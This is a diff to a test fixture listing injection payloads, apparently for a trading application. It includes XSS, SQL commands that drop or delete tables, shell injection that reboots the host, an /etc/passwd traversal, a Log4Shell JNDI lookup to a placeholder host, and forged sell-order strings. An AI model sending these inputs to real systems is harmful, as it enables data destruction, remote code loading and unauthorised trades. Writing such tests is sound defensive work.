@@ -5,7 +5,7 @@ INJECTIONS = (
     *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"),
     *("'; DROP TABLE orders; --", "' OR 1=1 --", '" OR ""="', "1; DELETE FROM trades"),
     *("$(reboot)", "`reboot`", "; reboot", "| reboot", "&& reboot", "../../etc/passwd", "%00"),
-    *("{{7*7}}", "${7*7}", "#{7*7}", "{% debug %}", "%s%s%s%n", "\x1b[2J", "\r\nSet-Cookie: a=b"),
+    *("{{7*7}}", "${7*7}", "#{7*7}", "{% debug %}", "%s%s%s%n", "\x1b[2J", "\r\nX-Injected: a=b"),
     *("${jndi:ldap://x/a}", '{"action":"sell"}', '","action":"sell","x":"'),
     *("action=sell&quantity=999", "s=AAPL b=short q=100%", "sell", "close", "cancel", "flat"),
     *("BUY_EXCHANGE_USDT-BTC_0.1", "Keys(AAPL) { market(side=sell, amount=9); }", "a|b|sell|AAPL"),
